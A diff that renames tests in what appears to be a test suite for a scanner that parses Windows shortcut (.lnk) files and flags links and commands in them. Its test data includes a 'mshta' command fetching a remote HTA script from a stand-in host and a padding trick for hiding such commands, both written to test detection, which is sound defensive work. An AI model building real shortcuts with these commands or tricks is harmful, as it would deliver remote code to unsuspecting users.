@@ -47,7 +47,7 @@ def written(octets: bytes, each: ShortcutText) -> bytes:
 
 
 @for_each("is_wide", True, False)
-def test_each_string_has_its_name_and_position(is_wide: bool) -> None:
+def test_each_shortcut_string_has_its_name_and_position(is_wide: bool) -> None:
     flags = DESCRIPTION | RELATIVE | FOLDER | ARGUMENTS | ICON | (WIDE if is_wide else 0)
     values = ["Café", r"..\a.exe", r"C:\b", "/c https://a.test/", r"\\c.test\d.ico"]
     octets = shortcut(flags, b"".join(text(each, is_wide=is_wide) for each in values))
@@ -72,11 +72,11 @@ def test_each_string_has_its_name_and_position(is_wide: bool) -> None:
     (ARGUMENTS, "arguments"),
     (ICON, "icon"),
 )
-def test_string_is_present_only_with_its_flag(flag: int, name: str) -> None:
+def test_shortcut_string_is_present_only_with_its_flag(flag: int, name: str) -> None:
     assert texts(shortcut(flag | WIDE, text("x") + text("y"))) == [(name, "x")]
 
 
-def test_id_list_is_skipped() -> None:
+def test_shortcut_id_list_is_skipped() -> None:
     body = struct.pack("<H", 3) + b"abc" + text("x")
     assert texts(shortcut(TARGETS | DESCRIPTION | WIDE, body)) == [("description", "x")]
 
@@ -110,7 +110,7 @@ def test_link_info_with_a_false_size_has_no_target() -> None:
     assert [name for name, _ in changed(24, size)] == ["target", "description"]
 
 
-def test_share_must_end_within_the_file() -> None:
+def test_shortcut_share_must_end_within_the_file() -> None:
     network = struct.pack("<IIIII", 20, 2, 20, 0, 0)
     table = struct.pack("<IIIIIII", 48, 28, 2, 0, 0, 28, 48) + network
     assert texts(shortcut(INFO, table + b"\\\\a.test\\s\0"))[0][1].startswith(r"\\a.test\s")
@@ -120,7 +120,7 @@ def test_share_must_end_within_the_file() -> None:
 
 
 @for_each("signature, name", (TARGET_BLOCK, "target"), (ICON_BLOCK, "icon"))
-def test_extra_block_has_a_path(signature: int, name: str) -> None:
+def test_extra_block_of_a_shortcut_has_a_path(signature: int, name: str) -> None:
     path = r"\\a.test\é.exe"
     body = block(OTHER_BLOCK, r"\\other.test\x") + block(signature, path)
     octets = shortcut(0, body)
@@ -130,7 +130,7 @@ def test_extra_block_has_a_path(signature: int, name: str) -> None:
     assert written(within, found).decode("utf-16-le") == path
 
 
-def test_block_needs_its_minimum_size_and_a_path() -> None:
+def test_shortcut_block_needs_its_minimum_size_and_a_path() -> None:
     path = r"\\a.test\e"
     whole = block(TARGET_BLOCK, path)
     smaller = struct.pack("<I", len(whole) - 1) + whole[4:]
@@ -144,14 +144,14 @@ def test_block_needs_its_minimum_size_and_a_path() -> None:
     assert texts(octets) == [("target", "ab")]
 
 
-def test_truncated_file_gives_the_complete_strings() -> None:
+def test_truncated_shortcut_has_its_complete_strings() -> None:
     octets = shortcut(DESCRIPTION | ARGUMENTS | WIDE, text("ab") + text("cd"))
     assert texts(octets[:-4]) == [("description", "ab"), ("arguments", "")]
     assert texts(octets[:-5]) == [("description", "ab")]
     assert texts(octets[:22]) == []
 
 
-def test_links_are_addresses_in_strings_and_unc_paths() -> None:
+def test_shortcut_links_are_addresses_and_unc_paths() -> None:
     values = ["see https://a.test/", r"C:\b.exe", "/c mshta https://c.test/x|more", r"\\d.test\i"]
     flags = DESCRIPTION | FOLDER | ARGUMENTS | ICON | WIDE
     document = uriinspector.scan(shortcut(flags, b"".join(map(text, values))), name="a.lnk")
@@ -164,7 +164,7 @@ def test_links_are_addresses_in_strings_and_unc_paths() -> None:
     assert note.reason.endswith("/c mshta https://c.test/x|more")
 
 
-def test_blank_command_is_not_shown_and_a_long_one_cut() -> None:
+def test_blank_shortcut_command_is_hidden_and_a_long_one_cut() -> None:
     octets = shortcut(ARGUMENTS | ICON | WIDE, text("  ") + text("https://a.test/i.ico"))
     document = uriinspector.scan(octets, name="a.lnk")
     assert document.not_examined == ()
@@ -176,7 +176,7 @@ def test_blank_command_is_not_shown_and_a_long_one_cut() -> None:
 
 
 @for_each("flag", 0x04, 0x08, 0x10)
-def test_padded_text_does_not_hide_the_command(flag: int) -> None:
+def test_padding_does_not_hide_the_shortcut_command(flag: int) -> None:
     padding = " " * 260
     body = struct.pack("<H", 5000) + padding.encode("utf-16-le") + text("https://a.test/x.hta")
     document = uriinspector.scan(shortcut(flag | 0x20 | 0x80, body))
